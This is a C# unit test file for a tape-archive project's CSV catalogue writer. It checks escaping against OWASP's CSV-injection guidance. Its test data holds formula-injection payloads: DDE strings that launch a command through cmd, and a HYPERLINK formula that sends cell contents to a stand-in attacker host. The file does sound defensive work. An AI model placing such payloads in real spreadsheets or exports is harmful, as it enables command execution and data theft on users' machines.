using System.Collections.Immutable;
using System.Text;
using System.Text.Json;
using TapeVault.Core.Catalogue;
using TapeVault.Core.Image;
using TapeVault.Core.Tests.Image;
using TapeVault.Core.Tests.OutsideChecks;
using Xunit;

namespace TapeVault.Core.Tests.Catalogue;

/// <summary>
/// catalogue.csv against OWASP's CSV Injection guidance (owasp.org/www-community/attacks/CSV_Injection): no cell may
/// start with =, +, -, @, tab or carriage return; each such cell gets a single quote in front, every cell is quoted and
/// quotes inside are doubled. The payloads and the two escaped outputs are the ones that page lists (quoted from memory
/// of the page); the DDE and HYPERLINK payloads are the classic examples the same page and CWE-1236 describe.
/// </summary>
public sealed class CsvInjectionTests
{
    /// <summary>OWASP's two examples, with the escaped output the page gives for each.</summary>
    public static TheoryData<string, string> OwaspExamples => new()
    {
        { "=1+2\";=1+2", "\"'=1+2\"\";=1+2\"" },
        { "=1+2'\" ;,=1+2", "\"'=1+2'\"\" ;,=1+2\"" },
    };

    /// <summary>Text that a spreadsheet would run as a formula (or that starts with tab or CR, which it may drop before one).</summary>
    public static TheoryData<string> Payloads => new()
    {
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://attacker.invalid/?\"&A2,\"Error: click\")",
        "\t=1+2",
        "\r=1+2",
    };

    [Theory]
    [MemberData(nameof(OwaspExamples))]
    public void OwaspExample_IsWrittenExactlyAsTheGuidanceEscapesIt(string payload, string escaped)
    {
        string csv = CatalogueWriter.Csv(Site(title: payload, fileNames: ["PLAIN"]));
        string row = csv.Split("\r\n")[1];

        // OWASP: wrap each cell in double quotes, prepend a single quote, double every double quote.
        Assert.Contains("," + escaped + ",", row, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void NoCellStartsLikeAFormula_AsPythonsCsvModuleReadsIt_WhereverThePayloadCameFrom(string payload)
    {
        // The payload as a curator's accession number and title and as a file name read from a tape's own header.
        string csv = CatalogueWriter.Csv(Site(accession: payload, title: payload, fileNames: [payload]));
        var rows = ReadWithPython(csv);

        Assert.Equal(CatalogueWriter.CsvColumns, rows[0]);
        var row = rows[1];
        Assert.Equal(CatalogueWriter.CsvColumns.Count, row.Count);
        foreach (var cell in row)
        {
            // OWASP: no cell begins with = + - @ tab or CR.
            Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"cell starts like a formula: {cell}");
        }

        // The value is kept, behind the quote that makes it text; the separators and quotes inside it stayed inside
        // its one cell (OWASP: "take care of the field separator ... and quotes").
        Assert.Equal("'" + payload, row[0]);
        Assert.Equal("'" + payload, row[1]);
        Assert.Equal("'" + payload, row[11]);
    }

    [Fact]
    public void NumbersStayNumbers_AndPlainTextIsUnchanged()
    {
        string csv = CatalogueWriter.Csv(Site(title: "Club newsletter 3", fileNames: ["HELLO", "GAME"]));
        var row = ReadWithPython(csv)[1];
        Assert.Equal("Club newsletter 3", row[1]);
        Assert.Equal("1", row[3]);
        Assert.Equal("HELLO;GAME", row[11]);
        Assert.DoesNotContain(row, c => c.StartsWith('\''));
    }

    /// <summary>Python's csv module (the standard library's RFC 4180 reader, no code shared with ours) reads the file.</summary>
    private static List<List<string>> ReadWithPython(string csv)
    {
        const string Script = "import csv,io,json,sys; rows=list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode('utf-8'), newline=''), delimiter=',')); sys.stdout.write(json.dumps(rows))";
        var output = OutsideTool.Run("/usr/bin/python3", ["-c", Script], Encoding.UTF8.GetBytes(csv));
        return JsonSerializer.Deserialize<List<List<string>>>(output.StandardOutput)!;
    }

    private static CatalogueSite Site(string accession = "BHCC-0001", string title = "A tape", IReadOnlyList<string>? fileNames = null)
    {
        var sample = ImageSamples.Standard();
        var block = sample.Blocks[0];
        var image = sample with
        {
            Blocks = [block],
            Files = [.. (fileNames ?? []).Select(n => new ImageFile(n, block.Payload.Length, 0, 1, true))],
        };
        var item = new CatalogueItem(accession, title, "A", "label", string.Empty, [], new CatalogueImage(1, new string('a', 64), 100, image), null);
        return new CatalogueSite("Collection", string.Empty, "Brackenfield Home Computer Club", DateTimeOffset.UnixEpoch, [item]);
    }
}
